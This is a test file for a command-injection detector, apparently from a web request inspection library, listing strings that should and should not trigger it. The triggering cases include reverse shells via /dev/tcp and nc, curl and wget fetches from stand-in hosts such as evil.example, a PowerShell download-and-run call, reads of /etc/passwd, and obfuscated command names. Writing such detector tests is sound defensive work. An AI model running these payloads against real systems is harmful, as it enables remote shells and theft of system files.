import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (value: string) => inspector.inspectValue(value, 'query.q').some((h) => h.class === 'command');

describe('command detector', () => {
  it.each([
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    'x || uname -a',
    '`whoami`',
    '$(curl http://evil.example/x.sh)',
    "a;c'a't${IFS}/etc/passwd",
    ';{cat,/etc/passwd}',
    '127.0.0.1%0Aid',
    '%3B%20ls%20-la',
    'foo; /bin/sh -i',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '/???/c?t /e??/p?sswd',
    'wget http://203.0.113.5/x.sh -O /tmp/x',
    "require('child_process').exec('id')",
    'FOR /F "tokens=*" %G IN (\'dir\') DO echo %G',
    '& ping -n 5 127.0.0.1',
  ])('fires on %j', (value) => {
    expect(fires(value)).toBe(true);
  });

  it.each([
    'Tom & Jerry; more to come',
    'salt & pepper',
    'black & white; cat lovers welcome',
    'I love my dog & cat',
    'red|green|blue',
    'Use the | character to separate values',
    'Step 1; step 2; done',
    'data:image/png;base64,iVBORw0KGgo=',
    'Returns `null` when empty',
    '```bash\nnpm install\n```',
    'find the best deal',
    'curl -X POST https://api.example.com/v1/items',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });
});

describe('command detector: command lines, obfuscation, batch, PowerShell and server-side code', () => {
  it.each([
    ['FOR /L %i IN (1,1,5) DO ping -n 1 10.0.0.1', 'command-batch'],
    ['IF EXIST C:\\boot.ini type C:\\boot.ini', 'command-batch'],
    ['if /i %USERNAME%==admin net user', 'command-batch'],
    ['time sh -c id', 'command-inline-code'],
    ['nohup nc -e /bin/sh 10.0.0.1 4444', 'command-leading'],
    ['tcpdump -i eth0 -w /tmp/x', 'command-leading'],
    ['python3 -c "import os"', 'command-inline-code'],
    ["w'h'o'am'i", 'command-obfuscated-name'],
    ['pi``ng 10.0.0.1', 'command-obfuscated-name'],
    ['c$@at /etc/hosts', 'command-obfuscated-name'],
    ['Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x/a.ps1")', 'command-powershell'],
    ['c{a,u}t /etc/hosts', 'command-brace-expansion'],
    ['process.mainModule.require("fs")', 'command-server-side-code'],
    ['while(true){}', 'command-server-side-code'],
    ['@{[ system "id" ]}', 'command-perl-interpolation'],
    ['/usr/b[i]n/i[d]', 'command-leading'],
    ['~+', 'command-tilde-expansion'],
  ])('fires on %j (%s)', (value, ruleId) => {
    const hit = inspector.inspectValue(value, 'query.q').find((h) => h.class === 'command');
    expect(hit?.ruleId).toBe(ruleId);
  });

  it.each([
    "I'd like to return the item",
    'time for a change',
    'if you can, call me back',
    'for all of us (really) do it now',
    'ruby red slippers',
    'nice work, thanks',
    'yarn colour: blue',
    'npm install --save-dev typescript',
    'He said "yes" and left',
    'the Xbox console (new) is great',
    'while (stocks last)',
    'Rock & roll; blues; jazz',
    'dig deep, team',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });
});
